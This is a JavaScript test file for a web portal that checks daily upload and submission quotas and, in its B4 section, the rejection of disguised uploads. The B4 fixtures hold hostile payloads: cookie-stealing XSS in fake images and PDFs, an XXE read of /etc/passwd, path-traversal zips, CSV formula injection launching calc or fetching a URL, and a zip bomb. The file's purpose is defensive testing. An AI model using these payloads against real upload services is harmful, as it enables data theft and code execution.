// quotas.mjs - how much may be handed in on a day, and files that are not what they say (B4).
import { deflateRawSync } from "node:zlib";
import { readFileSync, readdirSync } from "node:fs";
import { done, expect, sample_password, signed_in, sql, stage, test, words_of } from "../portal/portal.mjs";
import { application_ready } from "../portal/apply.mjs";
import { any_item, children_of, pid_of, proof } from "../faults/journal.mjs";

const login = "zhao.yuting";
const account = sql(`SELECT id FROM accounts WHERE login = '${login}'`);
const set = (name, value) => sql(`INSERT INTO settings (name, value) VALUES ('quota.${name}', '${value}') ON DUPLICATE KEY UPDATE value = VALUES(value)`);
const was = sql("SELECT CONCAT(name, '=', value) FROM settings WHERE name LIKE 'quota.%'").split("\n").map((line) => line.replace("quota.", "").split("="));
const forget = () => sql("DELETE FROM throttles WHERE bucket REGEXP '^(files|kib|submits)(_from)?:'");
const used = (bucket) => Number(sql(`SELECT COALESCE(MAX(tries), 0) FROM throttles WHERE bucket = '${bucket}'`));

const visitor = await signed_in(login, sample_password);
const item = any_item();
let { path, id } = await application_ready(visitor, item);
const [material] = (await visitor.get(`${path}/materials`)).body.match(new RegExp(`${path}/materials/\\d+`));
const kept = () => Number(sql(`SELECT COUNT(*) FROM case_files WHERE case_id = ${id} AND removed_at IS NULL`));
const empty = () => sql(`UPDATE case_files SET removed_at = NOW(6) WHERE case_id = ${id} AND removed_at IS NULL AND id NOT IN (SELECT * FROM (SELECT MIN(id) FROM case_files WHERE case_id = ${id} GROUP BY material) AS first)`);
let serial = 0;

async function hand_in(...files) {
	const form = await visitor.form(material, /\/materials\/\d+$/);

	return visitor.post_files(form.action, { ...form.fields, given: "files" }, (files.length > 0 ? files : [{}]).map((file) => ({ field: "files", name: "a.txt", content: `file ${serial++}\n`, ...file })));
}

const tomorrow = (answer) => Number(answer.headers["retry-after"]) > 3600 && Number(answer.headers["retry-after"]) <= 86401;

async function limited(name, value, sentence, bucket) {
	forget();
	empty();
	set(name, value);
	const before = kept();
	let taken = 0, answer;

	for (; taken < 20; taken++) {
		answer = await hand_in(name.includes("megabytes") ? { content: `file ${serial++}\n${"x".repeat(600 << 10)}` } : {});
		if (answer.status !== 303)
			break;
	}
	set(name, 0);
	expect(answer.status, 429, `after ${taken} files`);
	expect(words_of(answer.body).includes(sentence), true, `it says so: ${words_of(answer.body).slice(0, 400)}`);
	expect(tomorrow(answer), true, `Retry-After: ${answer.headers["retry-after"]}`);
	expect(kept() - before, taken, "what was refused is not kept");
	if (bucket !== undefined)
		expect(used(bucket), taken, "and not counted");
	return taken;
}

try {
	for (const [name] of was)
		set(name, 0);
	await test("an account may hand in so many files on a day, then is told so until tomorrow", async () => {
		expect(await limited("files_day", 3, "每日上限，请明天再传", `files:${account}`), 3, "files");
	});
	await test("and so many megabytes", async () => {
		expect(await limited("megabytes_day", 2, "每日上限，请明天再传"), 3, "files of 600 kB in 2 MB");
	});
	await test("a network may hand in so many, whoever signs in there", async () => {
		expect(await limited("network_files_day", 4, "您所在的网络今天", "files_from:127.0.0.1"), 4, "files");
	});
	await test("what was mistaken does not count", async () => {
		forget();
		expect((await hand_in({ name: "a.exe" })).status, 422, "a file that is refused");
		expect(used(`files:${account}`), 0, "counted");
	});
	await test("a new day begins anew", async () => {
		forget();
		set("files_day", 1);
		expect((await hand_in()).status, 303, "the first");
		expect((await hand_in()).status, 429, "the second");
		sql(`UPDATE throttles SET window_at = window_at - INTERVAL 1 DAY WHERE bucket = 'files:${account}'`);
		expect((await hand_in()).status, 303, "a day later");
		set("files_day", 0);
	});
	await test("control: without a limit it goes on", async () => {
		forget();
		empty();
		for (let n = 0; n < 6; n++)
			expect((await hand_in()).status, 303, `file ${n}`);
	});
	await test("an account may submit so many applications on a day", async () => {
		forget();
		set("submissions_day", 1);
		const submit = async () => {
			const ready = await application_ready(visitor, item);

			return { ...await visitor.fill(`${ready.path}/check`, { declaration: "1" }, { action: "/submit" }), id: ready.id };
		};

		expect((await submit()).status, 303, "the first");
		const second = await submit();

		expect(second.status, 429, "the second");
		expect(words_of(second.body).includes("今天提交的申请已达到每日上限"), true, "it says so");
		expect(sql(`SELECT state FROM cases WHERE id = ${second.id}`), "draft", "it is a draft still");
		set("submissions_day", 0);
		expect((await submit()).status, 303, "and goes through when it may");
	});
} finally {
	for (const [name, value] of was)
		set(name, value);
	forget();
}

// ---- B4 ----

({ path, id } = await application_ready(visitor, item));
const [room] = (await visitor.get(`${path}/materials`)).body.match(new RegExp(`${path}/materials/\\d+`));

async function give(file) {
	const form = await visitor.form(room, /\/materials\/\d+$/), before = kept();
	const answer = await visitor.post_files(form.action, { ...form.fields, given: "files" }, [{ field: "files", ...file }]);

	return { answer, kept: kept() - before };
}

// A file as it is in a zip, stored or packed, without an end of the list: enough for what sniffs.
function zip(name, content) {
	const packed = deflateRawSync(content, { level: 9 }), head = Buffer.alloc(30), entry = Buffer.alloc(46), end = Buffer.alloc(22);

	head.writeUInt32LE(0x04034b50, 0);
	head.writeUInt16LE(20, 4);
	head.writeUInt16LE(8, 8);
	head.writeUInt32LE(packed.length, 18);
	head.writeUInt32LE(content.length, 22);
	head.writeUInt16LE(name.length, 26);
	entry.writeUInt32LE(0x02014b50, 0);
	entry.writeUInt16LE(8, 10);
	entry.writeUInt32LE(packed.length, 20);
	entry.writeUInt32LE(content.length, 24);
	entry.writeUInt16LE(name.length, 28);
	end.writeUInt32LE(0x06054b50, 0);
	end.writeUInt16LE(1, 8);
	end.writeUInt16LE(1, 10);
	end.writeUInt32LE(46 + name.length, 12);
	end.writeUInt32LE(30 + name.length + packed.length, 16);
	return Buffer.concat([head, Buffer.from(name), packed, entry, Buffer.from(name), end]);
}

const script = "<script>alert(document.cookie)</script>";
const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0, 0x0d]), Buffer.from("IHDR"), Buffer.from([0, 0, 0, 1, 0, 0, 0, 1, 8, 2, 0, 0, 0, 0x90, 0x77, 0x53, 0xde])]);
const jpeg = Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 1, 1, 0, 0, 1, 0, 1, 0, 0]);
const rejected = [
	["a drawing with a script as a picture", { name: "a.png", type: "image/png", content: `<svg xmlns="http://www.w3.org/2000/svg">${script}</svg>` }],
	["a drawing in XML's clothes as a picture", { name: "a.jpg", type: "image/jpeg", content: `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&x;</svg>` }],
	["a page as a picture", { name: "a.jpeg", type: "image/jpeg", content: `<html>${script}</html>` }],
	["a page as a document", { name: "a.pdf", type: "application/pdf", content: `<!DOCTYPE html>${script}` }],
	["a picture of the old kind that is a script", { name: "a.gif", type: "image/gif", content: "GIF89a/*\0\0\0\0*/=1;alert(1)" }],
	["a program", { name: "a.docx", content: Buffer.concat([Buffer.from("MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", "latin1"), Buffer.alloc(256)]) }],
	["a shell script as a text of another ending", { name: "a.sh", content: "#!/bin/sh\nid\n" }],
	["an archive by its own name", { name: "a.zip", content: zip("../../evil.sh", Buffer.from("id")) }],
	["an archive that climbs, as a picture", { name: "a.png", content: zip("../../evil.sh", Buffer.from("id")) }],
	["a table that starts a program", { name: "a.csv", type: "text/csv", content: "name,sum\nlin,=cmd|' /C calc'!A0\n" }],
	["a table that fetches an address", { name: "a.csv", type: "text/csv", content: "name,sum\nlin,\"=WEBSERVICE(\"\"http://x/\"\"&A1)\"\n" }],
	["a table with a formula behind a minus", { name: "a.csv", type: "text/csv", content: "name,sum\nlin,-2+3+cmd|' /C calc'!A0\n" }],
];
const inert = [
	["a picture with a page behind it", { name: "a.png", type: "text/html", content: Buffer.concat([png, Buffer.from(`<html>${script}</html>`)]) }, "image/png"],
	["a picture with an archive behind it", { name: "a.jpg", type: "application/zip", content: Buffer.concat([jpeg, Buffer.alloc(64), zip("../../evil.sh", Buffer.from("id"))]) }, "image/jpeg"],
	["a document that is a page, too", { name: "a.pdf", type: "text/html", content: `%PDF-1.4\n<html>${script}</html>\n%%EOF\n` }, "application/pdf"],
	["a bomb: thirty megabytes in thirty kilobytes", { name: "a.docx", content: zip("word/document.xml", Buffer.alloc(30 << 20)) }, null],
	["a table of values", { name: "a.csv", type: "text/csv", content: "name,sum\nlin,-12.5\n" }, null],
];
const sizes = () => children_of(pid_of("public")).map((pid) => Number(readFileSync(`/proc/${pid}/statm`, "latin1").split(" ")[1]) * 4096);

for (const [what, file] of rejected)
	await test(`B4 ${what} is rejected`, async () => {
		const { answer, kept: n } = await give(file);

		expect(answer.status, 422, what);
		expect(n, 0, "kept");
	});
for (const [what, file, type] of inert)
	await test(`B4 ${what} is inert: kept as it is, a download and nothing else`, async () => {
		const before = Math.max(...sizes()), { answer, kept: n } = await give(file);

		expect(answer.status, 303, what);
		expect(n, 1, "kept");
		expect(Math.max(...sizes()) - before < 16 << 20, true, "nothing was unpacked in a worker");
		const back = await visitor.get(`${path}/files/${sql(`SELECT MAX(id) FROM case_files WHERE case_id = ${id}`)}`);

		expect(/^attachment/.test(back.headers["content-disposition"]), true, "a download");
		expect(back.headers["x-content-type-options"], "nosniff", "not guessed at");
		expect(/default-src 'none'/.test(back.headers["content-security-policy"]), true, "where nothing runs");
		expect(/html|svg|xml;|script/.test(back.headers["content-type"].replace("openxml", "")), false, back.headers["content-type"]);
		expect(back.bytes.equals(Buffer.from(file.content)), true, "the very bytes");
		if (type !== null)
			expect(back.headers["content-type"], type, "as what it is");
	});
await test("B4 control: the same text by the ending of a text is kept, so it is what it holds that is judged", async () => {
	expect((await give({ name: "a.txt", content: "name,sum\nlin,=1+1\n" })).answer.status, 303, "a text");
	expect(readdirSync(`${stage}/uploads/tmp`).length, 0, "nothing lies about");
});
proof("B4", { test: "files that are not what they say", load: `${rejected.length + inert.length} files`, faults: "–", lost: 0, double: 0, half: 0, worst: "–" });
done();
